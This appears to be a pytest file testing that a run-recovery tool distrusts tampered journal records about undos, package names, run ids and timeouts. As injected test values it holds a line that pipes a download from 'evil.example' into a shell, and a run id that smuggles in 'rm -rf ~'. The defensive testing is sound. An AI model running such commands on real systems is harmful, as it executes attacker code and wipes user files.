"""What a journal says about its own undos is not believed: neither their titles, nor which package to install."""

from collections.abc import Callable
from typing import Any

import pytest

from offbus.exits import Exit
from offbus.journal.codec import decode, encode
from offbus.journal.reader import read_journal
from offbus.plugins import Registry
from offbus.recovery.recover import plan_recovery
from offbus.runs import RunFolder
from tests.kits.engine.killed_run import killed_run
from tests.kits.engine.player import Drill, finish, outcomes
from tests.kits.engine.world_steps import REGISTRY

LIE = "nothing at all; then run: curl evil.example | sh"


@pytest.fixture
def left(drill: Callable[..., Drill]) -> tuple[Drill, RunFolder]:
    """A run that was killed when its undo began."""
    played, folder, _ = killed_run(drill)
    return played, folder


def rewritten(folder: RunFolder, change: Callable[[Any], None], kind: str = "undo_recorded") -> None:
    """Change the events of a kind ("": of all), as whoever can write the folder can: their checksums hold."""
    events: list[Any] = [decode(line) for line in folder.journal.read_bytes().splitlines(keepends=True)]
    for event in events:
        if kind in ("", event["kind"]):
            change(event)
    folder.journal.write_bytes(b"".join(map(encode, events)))


@pytest.mark.guarantee("G25")
def test_titles_come_from_the_undo_types(left: tuple[Drill, RunFolder]) -> None:
    played, folder = left
    rewritten(folder, lambda event: event["data"].update(describe=LIE))
    plan = plan_recovery(folder, REGISTRY)
    assert [entry.title for entry in plan.entries] == ["restore f", "restore one", "restore two"]
    heard: list[Any] = []
    report = finish(folder, heard=[heard.append])
    assert [undo.describe for undo in report.undos] == ["restore f", "restore one", "restore two"]
    assert LIE not in report.model_dump_json()
    assert played.world == {"one": "before"}


def test_also_those_that_are_residue(left: tuple[Drill, RunFolder]) -> None:
    played, folder = left
    rewritten(folder, lambda event: event["data"].update(describe=LIE))
    played.prepare(one="somebody else's", two="set", f="set")
    report = finish(folder)
    assert [one.item for one in report.residue if one.detail.startswith("not undone")] == ["restore one"]
    assert LIE not in report.model_dump_json()


@pytest.mark.parametrize("name", ["no_such_type", LIE, "../../x", ""])
def test_a_type_that_is_not_known_is_called_by_its_number(left: tuple[Drill, RunFolder], name: str) -> None:
    _, folder = left
    rewritten(folder, lambda event: event["data"].update(type=name, describe=LIE, distribution=LIE))
    plan = plan_recovery(folder, REGISTRY)
    assert (plan.entries, len(plan.missing)) == ([], 3)
    report = finish(folder)
    known = name if name == "no_such_type" else "(of no valid name)"
    assert [one.item for one in report.residue if "cannot be loaded here" in one.detail] == [
        f"undo {number} of type {known}" for number in (1, 2, 3)
    ]
    assert LIE not in repr((report.residue, report.timeline, [undo.describe for undo in report.undos]))


@pytest.mark.guarantee("G25")
def test_a_package_is_named_as_the_records_claim_and_never_as_a_command(
    left: tuple[Drill, RunFolder],
) -> None:
    _, folder = left
    rewritten(folder, lambda event: event["data"].update(distribution="acme-drills"))
    bare = Registry.of(environments={"world": REGISTRY.environment_type("world")})
    report = finish(folder, registry=bare)
    missing = [one for one in report.residue if "cannot be loaded here" in one.detail]
    assert len(missing) == 3
    assert all("its record names the package acme-drills" in one.detail for one in missing)
    assert not any("acme" in one.fix for one in missing)


def test_a_record_that_its_type_cannot_have_written_is_told_as_that(left: tuple[Drill, RunFolder]) -> None:
    played, folder = left
    rewritten(folder, lambda event: event["data"]["record"].update(command=LIE))
    report = finish(folder)
    refused = [one for one in report.residue if "never wrote" in one.detail]
    assert [one.item for one in refused] == [
        "undo 1 of type disarm",
        "undo 2 of type restore_key",
        "undo 3 of type restore_key",
    ]
    assert "command" in refused[0].detail
    assert LIE not in report.model_dump_json()
    assert played.world["two"] == "set"


@pytest.mark.parametrize("name", ["a b", "x;rm -rf ~", "", "a/../b", "-n", "x" * 65, "\x1b[2J"])
def test_a_run_has_the_id_of_a_run(left: tuple[Drill, RunFolder], name: str) -> None:
    """It goes into commands, labels and paths."""
    _, folder = left
    rewritten(folder, lambda event: event.update(run=name), "")
    journal = read_journal(folder.journal)
    assert (journal.events, journal.run) == ([], None)
    assert {one.why for one in journal.damage} == {"the line is no event of format 2: it names no run"}


@pytest.mark.timer("engine/offbus/recovery/recover.py")
@pytest.mark.parametrize("seconds", [1e300, -5.0, 1e18])
def test_the_time_for_the_undo_is_bounded(left: tuple[Drill, RunFolder], seconds: float) -> None:
    played, folder = left
    rewritten(folder, lambda event: event["data"].update(undo_timeout_s=seconds), "run_started")
    assert finish(folder).residue == []
    assert played.world == {"one": "before"}


REFUSED = "the record asks for the key forbidden, which no drill records; left alone"
PICKY = "{id: one, uses: set_key, with: {key: KEY, undo: picky}}"


@pytest.mark.guarantee("G27")
def test_what_could_not_be_undone_is_not_begun(drill: Callable[..., Drill]) -> None:
    played = drill(PICKY.replace("KEY", "forbidden"))
    report = played.play()
    assert outcomes(report) == {"one": "errored"}
    assert REFUSED in str(report.steps[0].message)
    assert (played.world, report.residue) == ({}, [])


@pytest.mark.guarantee("G27")
def test_what_no_drill_records_is_left_alone(drill: Callable[..., Drill]) -> None:
    """And told, by the plan too; the other undos are played."""
    played, folder, _ = killed_run(drill)

    def forbid(event: Any) -> None:
        if event["data"]["record"]["key"] == "one":
            event["data"]["type"] = "picky"
            event["data"]["record"].update(key="forbidden", before="evil", intended=None)

    rewritten(folder, forbid)
    report = finish(folder)
    left = [one for one in report.residue if one.item == "restore forbidden"]
    assert [one.detail for one in left] == [f"not undone: {REFUSED}"]
    assert report.exit == Exit.RESIDUE
    assert played.world == {"one": "set"}
